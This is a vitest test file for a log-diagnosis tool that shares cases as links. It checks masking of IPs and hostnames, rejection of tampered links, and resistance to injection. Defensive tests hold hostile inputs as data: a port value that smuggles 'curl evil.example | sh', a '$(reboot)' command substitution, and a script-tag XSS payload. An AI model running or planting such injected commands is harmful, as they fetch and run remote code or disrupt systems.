import { expect, test } from 'vitest'
import diagnosisContent from 'virtual:content/diagnosis'
import guideContent from 'virtual:content/guide'
import { createDiagnosis } from '../diagnosis'
import { createGuide } from '../guide/fold'
import { newCase, type CaseDocument } from './document'
import { caseReport } from './report'
import { caseToFragment, fragmentToCase } from './link'
import { readCase } from './read'
import { shareable } from './share'

const { diagnose } = createDiagnosis(diagnosisContent)
const log =
  '2026/11/21 10:12:31 [error] 7#7: *1 connect() failed (111: Connection refused) while connecting to upstream, client: 203.0.113.7, server: shop.acme-store.de, request: "GET / HTTP/1.1", upstream: "http://10.1.2.3:3000/", host: "shop.acme-store.de"'
const noise = Array.from({ length: 50 }, (_, i) => `2026/11/21 10:12:30 [notice] 7#7: line ${i}`).join('\n')

function caseOf(...texts: string[]): CaseDocument {
  const pastes = texts.map((text, i) => ({ id: `p${i}`, text }))
  const events = texts.map((_, i) => ({
    type: 'evidence' as const,
    paste: `p${i}`,
    verdict: diagnose(texts.slice(0, i + 1)),
  }))
  return { ...newCase(guideContent), pastes, events }
}

const open = async (fragment: string): Promise<CaseDocument> => readCase(await fragmentToCase(fragment), guideContent)

test('a link brings back the case as it was shared', async () => {
  const shared = shareable(caseOf(`${noise}\n${log}`))
  expect(await open(await caseToFragment(shared))).toEqual(shared)
})

test('the same step and the same causes come out of a shared case', () => {
  const guide = createGuide(guideContent)
  const own = caseOf(log)
  const theirs = guide.fold(shareable(own).events)
  expect(theirs.step).toEqual(guide.fold(own.events).step)
  expect(theirs.causes).toEqual(guide.fold(own.events).causes)
})

test('nothing that names people or machines is shared, and only lines that something rests on', () => {
  const text = JSON.stringify(shareable(caseOf(`${noise}\n${log}`)))
  for (const secret of ['203.0.113.7', 'acme-store', '10.1.2.3', '[notice] 7#7: line 7"'])
    expect(text).not.toContain(secret)
  expect(text).toContain('<ip-1>')
})

test('the mark still covers the telling part after masking', () => {
  const [event] = shareable(caseOf(log)).events
  const quote = event?.type === 'evidence' ? event.verdict.causes[0]?.for[0]?.quotes[0] : undefined
  expect(quote?.text.slice(...(quote.mark ?? [0, 0]))).toContain('Connection refused')
})

test.each([
  ['cut short', (link: string) => link.slice(0, 60)],
  ['changed on its way', (link: string) => link.slice(0, 40) + link.slice(41)],
  ['from another format', (link: string) => link.replace('#case=1', '#case=7')],
  ['not base64', () => '#case=1%%%'],
])('a link that was %s throws', async (_name, damage) => {
  const link = await caseToFragment(shareable(caseOf(log)))
  await expect(open(damage(link))).rejects.toThrow(/./)
})

test('a crafted link brings no command into a command', async () => {
  const crafted = caseOf(log)
  const [event] = crafted.events
  if (event?.type === 'evidence') event.verdict.facts['upstream.port'] = '80; curl evil.example | sh'
  crafted.events.push({ type: 'fact', id: 'unit.name', value: '$(reboot)' })
  const opened = await open(await caseToFragment(crafted))
  expect(createGuide(guideContent).fold(opened.events).facts).not.toHaveProperty('upstream.port')
  expect(opened.events).toHaveLength(1)
})

test('a report holds pasted markup as text', () => {
  const evil = log.replace('GET / HTTP', 'GET /```</pre><script>alert(1)</script> HTTP')
  const document = caseOf(evil)
  const guide = createGuide(guideContent)
  const report = caseReport(guide, guide.fold(document.events), document, guideContent.words['en'] ?? {})
  expect(report).toMatch(/^# /)
  expect(report).toContain('````text\n')
})
